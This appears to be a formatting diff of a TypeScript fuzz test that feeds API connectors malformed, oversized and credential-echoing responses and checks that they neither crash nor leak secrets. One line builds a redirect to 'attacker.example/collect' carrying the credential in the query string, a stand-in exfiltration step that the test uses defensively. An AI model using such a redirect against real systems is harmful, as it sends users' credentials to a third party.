@@ -2,7 +2,8 @@
  * Fuzzing of every connector's response handling. A fetch injected into the HTTP client serves
  * seeded answers in the vendor's envelope: pages whose records have missing fields, wrong types,
  * huge strings, deep nesting or odd unicode; bodies that are not JSON, wrong envelopes, error
- * statuses that echo the credential, the vendor's own in-band error shapes quoting it, redirects to another origin, oversized bodies and pagination
+ * statuses that echo the credential, the vendor's own in-band error shapes quoting it, redirects to another origin,
+ * oversized bodies and pagination
  * loops. The real runner, cursor store and connector read them. Goals: the process never crashes,
  * the cursor never moves past a bad page, every record of a page it moves past is archived or
  * dead-lettered with a reason (never dropped), and the credential appears nowhere.
@@ -28,7 +29,9 @@ export interface FuzzReport {
   crashes: number;
   /** Cases where the cursor was committed past a bad page. */
   wrongAdvances: number;
-  /** Records of a committed page that reached neither the archive nor the dead-letter (or were archived though invalid). */
+  /**
+   * Records of a committed page that reached neither the archive nor the dead-letter (or were archived though invalid).
+   */
   unaccounted: number;
   /** Pages with a valid envelope that the run refused: a bad record blocked the source. */
   blocked: number;
@@ -43,9 +46,17 @@ export interface FuzzReport {
 
 /** Whether a record must be dead-lettered, must be archived, or may go either way. */
 type Expect = 'reject' | 'archive' | 'any';
-interface FuzzRecord { readonly text: string; readonly expect: Expect; readonly how: string }
+interface FuzzRecord {
+  readonly text: string;
+  readonly expect: Expect;
+  readonly how: string;
+}
 /** One scripted answer; bad answers repeat for every later request (retries included). */
-interface Step { readonly good: boolean; readonly records?: readonly FuzzRecord[]; answer(request: FuzzRequest): Answer }
+interface Step {
+  readonly good: boolean;
+  readonly records?: readonly FuzzRecord[];
+  answer(request: FuzzRequest): Answer;
+}
 
 const KINDS = ['records', 'records', 'records', 'notJson', 'envelope', 'status', 'echo', 'loop', 'tooLarge'] as const;
 const MAX_BYTES = 4 * 1024 * 1024;
@@ -66,34 +77,75 @@ function mutate(random: Random, fuzz: FuzzVendor, value: Record<string, unknown>
     for (const f of present) delete copy[f];
     return { text: JSON.stringify(copy), expect: 'reject', how: 'missing' };
   }
-  if (roll < 0.5) return { text: JSON.stringify({ ...copy, [field]: pick(random, WRONG_TYPES) }), expect: 'reject', how: 'wrongType' };
-  if (roll < 0.56) return { text: JSON.stringify({ ...copy, [field]: pick(random, ODD_VALUES) }), expect: 'any', how: 'oddValue' };
-  if (roll < 0.64) return { text: JSON.stringify(pick(random, [7, 'x', null, [1, 2], true, []])), expect: 'reject', how: 'notObject' };
-  if (roll < 0.72) return { text: JSON.stringify({ ...copy, [field]: 'A'.repeat(1_050_000) }), expect: 'reject', how: 'hugeRequired' };
-  if (roll < 0.78) return { text: JSON.stringify({ ...copy, fuzz_blob: 'é'.repeat(540_000) }), expect: 'reject', how: 'hugeJunk' };
+  if (roll < 0.5)
+    return {
+      text: JSON.stringify({ ...copy, [field]: pick(random, WRONG_TYPES) }),
+      expect: 'reject',
+      how: 'wrongType',
+    };
+  if (roll < 0.56)
+    return { text: JSON.stringify({ ...copy, [field]: pick(random, ODD_VALUES) }), expect: 'any', how: 'oddValue' };
+  if (roll < 0.64)
+    return { text: JSON.stringify(pick(random, [7, 'x', null, [1, 2], true, []])), expect: 'reject', how: 'notObject' };
+  if (roll < 0.72)
+    return { text: JSON.stringify({ ...copy, [field]: 'A'.repeat(1_050_000) }), expect: 'reject', how: 'hugeRequired' };
+  if (roll < 0.78)
+    return { text: JSON.stringify({ ...copy, fuzz_blob: 'é'.repeat(540_000) }), expect: 'reject', how: 'hugeJunk' };
   if (roll < 0.88) {
     const depth = randomInt(random, 100, 4000);
-    return { text: `${JSON.stringify(copy).slice(0, -1)},"fuzz_deep":${'['.repeat(depth)}${']'.repeat(depth)}}`, expect: 'any', how: 'deep' };
+    return {
+      text: `${JSON.stringify(copy).slice(0, -1)},"fuzz_deep":${'['.repeat(depth)}${']'.repeat(depth)}}`,
+      expect: 'any',
+      how: 'deep',
+    };
   }
-  if (roll < 0.94) return { text: JSON.stringify({ ...copy, 'fuzz\u0000key': '\ud800 \u202e 🧨 \\" </script>' }), expect: 'any', how: 'unicode' };
+  if (roll < 0.94)
+    return {
+      text: JSON.stringify({ ...copy, 'fuzz\u0000key': '\ud800 \u202e 🧨 \\" </script>' }),
+      expect: 'any',
+      how: 'unicode',
+    };
   if (roll < 0.97) {
     // A string that grows up to sixfold when escaped, around Firehose's 1,000 KiB record limit.
     const unit = pick(random, ['"', '\\', '\u0001', '\ud800', '😀']);
-    return { text: JSON.stringify({ ...copy, fuzz_escapes: unit.repeat(Math.floor(randomInt(random, 150_000, 1_100_000) / unit.length / (unit === '"' || unit === '\\' ? 2 : 6))) }), expect: 'any', how: 'oversized' };
+    return {
+      text: JSON.stringify({
+        ...copy,
+        fuzz_escapes: unit.repeat(
+          Math.floor(randomInt(random, 150_000, 1_100_000) / unit.length / (unit === '"' || unit === '\\' ? 2 : 6)),
+        ),
+      }),
+      expect: 'any',
+      how: 'oversized',
+    };
   }
   const text = JSON.stringify(copy);
-  return { text: `{${JSON.stringify(field)}:${JSON.stringify(pick(random, WRONG_TYPES))},${text.slice(1)}`, expect: 'any', how: 'dupKey' };
+  return {
+    text: `{${JSON.stringify(field)}:${JSON.stringify(pick(random, WRONG_TYPES))},${text.slice(1)}`,
+    expect: 'any',
+    how: 'dupKey',
+  };
 }
 
 function validRecords(random: Random, fuzz: FuzzVendor, n: number, at: number): FuzzRecord[] {
-  return fuzz.records(random, n, at).map((r) => ({ text: JSON.stringify(r), expect: 'archive' as const, how: 'valid' }));
+  return fuzz
+    .records(random, n, at)
+    .map((r) => ({ text: JSON.stringify(r), expect: 'archive' as const, how: 'valid' }));
 }
 
 /** An answer that is not a page of this vendor's at all. */
 function notJson(random: Random, fuzz: FuzzVendor, good: string): Answer {
   const bodies: Array<string | Uint8Array> = [
-    '<html><body>502 Bad Gateway</body></html>', good.slice(0, randomInt(random, 0, Math.max(0, good.length - 2))), '', 'null', '42', '"page"',
-    `\ufeff${good}`, Uint8Array.from([0xff, 0xfe, 0x7b, 0x80, 0x22]), `${'['.repeat(200_000)}${']'.repeat(200_000)}`, `${good}${good}`,
+    '<html><body>502 Bad Gateway</body></html>',
+    good.slice(0, randomInt(random, 0, Math.max(0, good.length - 2))),
+    '',
+    'null',
+    '42',
+    '"page"',
+    `\ufeff${good}`,
+    Uint8Array.from([0xff, 0xfe, 0x7b, 0x80, 0x22]),
+    `${'['.repeat(200_000)}${']'.repeat(200_000)}`,
+    `${good}${good}`,
     `error: token ${Object.values(fuzz.credentials).join(' ')} refused`,
   ];
   return { status: 200, headers: { 'content-type': 'application/json' }, body: pick(random, bodies) };
@@ -102,7 +154,12 @@ function notJson(random: Random, fuzz: FuzzVendor, good: string): Answer {
 function errorStatus(random: Random, fuzz: FuzzVendor): Answer {
   const secret = Object.values(fuzz.credentials).join('/');
   const status = pick(random, [400, 404, 409, 500, 502, 301, 302, 307, 429]);
-  const headers: Record<string, string> = status >= 300 && status < 400 ? { location: `http://attacker.example/collect?key=${encodeURIComponent(secret)}` } : status === 429 ? { 'retry-after': '86400' } : {};
+  const headers: Record<string, string> =
+    status >= 300 && status < 400
+      ? { location: `http://attacker.example/collect?key=${encodeURIComponent(secret)}` }
+      : status === 429
+        ? { 'retry-after': '86400' }
+        : {};
   return { status, headers, body: `{"error":"invalid credential ${secret}","echo":"Bearer ${secret}"}` };
 }
 
@@ -110,12 +167,44 @@ function errorStatus(random: Random, fuzz: FuzzVendor): Answer {
 function script(random: Random, fuzz: FuzzVendor, kind: (typeof KINDS)[number], at: number): Step[] {
   if (kind === 'records') {
     const records = fuzz.records(random, randomInt(random, 1, 6), at).map((r) => mutate(random, fuzz, r));
-    return [{ good: true, records, answer: (req) => ({ status: 200, body: fuzz.page(records.map((r) => r.text), req) }) }];
+    return [
+      {
+        good: true,
+        records,
+        answer: (req) => ({
+          status: 200,
+          body: fuzz.page(
+            records.map((r) => r.text),
+            req,
+          ),
+        }),
+      },
+    ];
   }
-  const lead = kind === 'loop' || random() < 0.5 ? validRecords(random, fuzz, Math.max(fuzz.full, randomInt(random, 1, 4)), at) : undefined;
-  const steps: Step[] = lead ? [{ good: true, records: lead, answer: (req) => ({ status: 200, body: fuzz.page(lead.map((r) => r.text), req, true) }) }] : [];
+  const lead =
+    kind === 'loop' || random() < 0.5
+      ? validRecords(random, fuzz, Math.max(fuzz.full, randomInt(random, 1, 4)), at)
+      : undefined;
+  const steps: Step[] = lead
+    ? [
+        {
+          good: true,
+          records: lead,
+          answer: (req) => ({
+            status: 200,
+            body: fuzz.page(
+              lead.map((r) => r.text),
+              req,
+              true,
+            ),
+          }),
+        },
+      ]
+    : [];
   // A loop needs a full page: a short one ends the window whatever its cursor says.
-  const texts = validRecords(random, fuzz, kind === 'loop' ? fuzz.full : randomInt(random, 1, 3), at).map((r) => r.text);
+  const texts = validRecords(random, fuzz, kind === 'loop' ? fuzz.full : randomInt(random, 1, 3), at).map(
+    (r) => r.text,
+  );
   const bad = (answer: (req: FuzzRequest) => Answer): Step[] => [...steps, { good: false, answer }];
   switch (kind) {
     case 'notJson':
@@ -130,7 +219,10 @@ function script(random: Random, fuzz: FuzzVendor, kind: (typeof KINDS)[number], 
       return bad(() => pick(random, fuzz.echoes(echo)));
     }
     case 'tooLarge':
-      return bad((req) => ({ status: 200, body: fuzz.page([...texts, JSON.stringify({ pad: 'x'.repeat(MAX_BYTES) })], req) }));
+      return bad((req) => ({
+        status: 200,
+        body: fuzz.page([...texts, JSON.stringify({ pad: 'x'.repeat(MAX_BYTES) })], req),
+      }));
     default:
       return bad((req) => ({ status: 200, body: fuzz.loop?.(texts, req) ?? pick(random, fuzz.wrong(texts)) }));
   }
@@ -146,7 +238,10 @@ function fakeVendor(fuzz: FuzzVendor, steps: readonly Step[], origin: string, fo
     const step = steps[at];
     if (step && step.good) at++;
     const answer = step ? step.answer(request) : { status: 200, body: fuzz.empty(request) };
-    return new Response(answer.status >= 300 && answer.status < 400 ? null : answer.body, { status: answer.status, headers: answer.headers ?? {} });
+    return new Response(answer.status >= 300 && answer.status < 400 ? null : answer.body, {
+      status: answer.status,
+      headers: answer.headers ?? {},
+    });
   }) as typeof fetch;
 }
 
@@ -160,10 +255,23 @@ function limitSink(name: string, kept: string[], now: () => number): Sink {
     send: async (command: { input: { Records?: Array<{ Data?: Uint8Array }> } }) => {
       const records = (command.input.Records ?? []).map((r) => r.Data ?? new Uint8Array());
       const bytes = records.reduce((n, r) => n + r.byteLength, 0);
-      if (records.length > FIREHOSE_LIMITS.maxBatchRecords || bytes > FIREHOSE_LIMITS.maxBatchBytes || records.some((r) => r.byteLength > FIREHOSE_LIMITS.maxRecordBytes)) {
-        throw Object.assign(new Error(`${records.length} records, ${bytes} bytes: over PutRecordBatch's limits`), { name: 'InvalidArgumentException' });
+      if (
+        records.length > FIREHOSE_LIMITS.maxBatchRecords ||
+        bytes > FIREHOSE_LIMITS.maxBatchBytes ||
+        records.some((r) => r.byteLength > FIREHOSE_LIMITS.maxRecordBytes)
+      ) {
+        throw Object.assign(new Error(`${records.length} records, ${bytes} bytes: over PutRecordBatch's limits`), {
+          name: 'InvalidArgumentException',
+        });
       }
-      for (const r of records) kept.push(...Buffer.from(r).toString('utf8').split('\n').filter(Boolean).map((line) => `${line}\n`));
+      for (const r of records)
+        kept.push(
+          ...Buffer.from(r)
+            .toString('utf8')
+            .split('\n')
+            .filter(Boolean)
+            .map((line) => `${line}\n`),
+        );
       return { FailedPutCount: 0, RequestResponses: records.map((_, i) => ({ RecordId: String(i) })) };
     },
   };
@@ -173,24 +281,43 @@ function limitSink(name: string, kept: string[], now: () => number): Sink {
 const sha = (text: string): string => createHash('sha256').update(text).digest('hex');
 
 /** Checks the records of the good pages against what was archived and dead-lettered. */
-function account(records: readonly FuzzRecord[], archived: readonly string[], dead: readonly string[], problems: string[]): number {
+function account(
+  records: readonly FuzzRecord[],
+  archived: readonly string[],
+  dead: readonly string[],
+  problems: string[],
+): number {
   const rawArchived = new Set(archived.map((e) => (JSON.parse(e) as { raw_data: string }).raw_data));
   const entries = dead.map((e) => JSON.parse(e) as { raw_data: string; raw_sha256?: string; reason?: string });
   let wrong = 0;
   for (const record of records) {
     const letter = entries.find((d) => d.raw_data === record.text || d.raw_sha256 === sha(record.text));
     const kept = rawArchived.has(record.text);
-    const fine = record.expect === 'reject' ? Boolean(letter?.reason) && !kept : record.expect === 'archive' ? kept : kept || Boolean(letter?.reason);
+    const fine =
+      record.expect === 'reject'
+        ? Boolean(letter?.reason) && !kept
+        : record.expect === 'archive'
+          ? kept
+          : kept || Boolean(letter?.reason);
     if (!fine) {
       wrong++;
-      problems.push(`${record.how} record (expected ${record.expect}): archived=${kept} dead-lettered=${Boolean(letter)} reason=${JSON.stringify(letter?.reason ?? '')}`);
+      problems.push(
+        `${record.how} record (expected ${record.expect}): archived=${kept} dead-lettered=${Boolean(letter)} reason=${JSON.stringify(letter?.reason ?? '')}`,
+      );
     }
   }
   return wrong;
 }
 
 function sourceFor(fuzz: FuzzVendor, id: string, startFrom: number): Source {
-  const raw = { id, vendor: fuzz.vendor, baseUrl: 'http://127.0.0.1:9', credentials: fuzz.credentials, startFrom: new Date(startFrom).toISOString(), options: fuzz.options };
+  const raw = {
+    id,
+    vendor: fuzz.vendor,
+    baseUrl: 'http://127.0.0.1:9',
+    credentials: fuzz.credentials,
+    startFrom: new Date(startFrom).toISOString(),
+    options: fuzz.options,
+  };
   return parseSources({ sources: [raw] }, optionSchemas()).sources[0] as Source;
 }
 
@@ -210,11 +337,28 @@ async function fuzzCase(world: ChaosWorld, seed: number, report: FuzzReport, out
   let result: RunResult | undefined;
   try {
     result = await runSource(fuzz.connector, source, {
-      store, sink: limitSink('archive', archived, clock.now), deadLetter: limitSink('dlq', dead, clock.now), owner: 'fuzz', leaseMs: 60_000, deadline: clock.now() + 600_000,
-      now: clock.now, log: capturingLogger(outputs.logs), credentials: { get: async (s) => s.credentials ?? {} },
-      http: ({ source: s, credentials, deadline, onRetry, retryRule }) => new HttpClient({
-        origin: s.baseUrl, deadline, secrets: Object.values(credentials), onRetry, fetch, now: clock.now, sleep: clock.sleep, random, maxResponseBytes: MAX_BYTES, ...(retryRule ? { retryRule } : {}),
-      }),
+      store,
+      sink: limitSink('archive', archived, clock.now),
+      deadLetter: limitSink('dlq', dead, clock.now),
+      owner: 'fuzz',
+      leaseMs: 60_000,
+      deadline: clock.now() + 600_000,
+      now: clock.now,
+      log: capturingLogger(outputs.logs),
+      credentials: { get: async (s) => s.credentials ?? {} },
+      http: ({ source: s, credentials, deadline, onRetry, retryRule }) =>
+        new HttpClient({
+          origin: s.baseUrl,
+          deadline,
+          secrets: Object.values(credentials),
+          onRetry,
+          fetch,
+          now: clock.now,
+          sleep: clock.sleep,
+          random,
+          maxResponseBytes: MAX_BYTES,
+          ...(retryRule ? { retryRule } : {}),
+        }),
     });
   } catch (error) {
     report.crashes++;
@@ -233,7 +377,13 @@ async function fuzzCase(world: ChaosWorld, seed: number, report: FuzzReport, out
     report.blocked++;
     problems.push(`a page with a valid envelope was refused: ${result.status} ${result.error ?? ''}`.slice(0, 300));
   }
-  if (commits > 0) report.unaccounted += account(steps.filter((s) => s.good).flatMap((s) => s.records ?? []), archived, dead, problems);
+  if (commits > 0)
+    report.unaccounted += account(
+      steps.filter((s) => s.good).flatMap((s) => s.records ?? []),
+      archived,
+      dead,
+      problems,
+    );
   report.cases++;
   report.oversized += steps.flatMap((s) => s.records ?? []).filter((r) => r.how === 'oversized').length;
   if (kind === 'echo') report.echoes++;
@@ -243,7 +393,18 @@ async function fuzzCase(world: ChaosWorld, seed: number, report: FuzzReport, out
 
 /** `cases` fuzz cases with seeds `seed`, `seed + 1`, ...; every output is scanned for the credentials. */
 export async function fuzz(world: ChaosWorld, seed: number, cases: number): Promise<FuzzReport> {
-  const report: FuzzReport = { cases: 0, crashes: 0, wrongAdvances: 0, unaccounted: 0, blocked: 0, oversized: 0, echoes: 0, leaks: [], byKind: {}, failures: [] };
+  const report: FuzzReport = {
+    cases: 0,
+    crashes: 0,
+    wrongAdvances: 0,
+    unaccounted: 0,
+    blocked: 0,
+    oversized: 0,
+    echoes: 0,
+    leaks: [],
+    byKind: {},
+    failures: [],
+  };
   const escaped: unknown[] = [];
   const onEscape = (error: unknown): void => void escaped.push(error);
   process.on('unhandledRejection', onEscape);
@@ -257,7 +418,12 @@ export async function fuzz(world: ChaosWorld, seed: number, cases: number): Prom
         report.crashes++;
         report.failures.push(`seed ${seed + i}: escaped: ${String(escaped.at(-1)).slice(0, 200)}`);
       }
-      report.leaks.push(...scan(outputs, FUZZ_VENDORS.flatMap((f) => Object.values(f.credentials))).map((l) => `seed ${seed + i}: ${l}`));
+      report.leaks.push(
+        ...scan(
+          outputs,
+          FUZZ_VENDORS.flatMap((f) => Object.values(f.credentials)),
+        ).map((l) => `seed ${seed + i}: ${l}`),
+      );
     }
   } finally {
     process.off('unhandledRejection', onEscape);
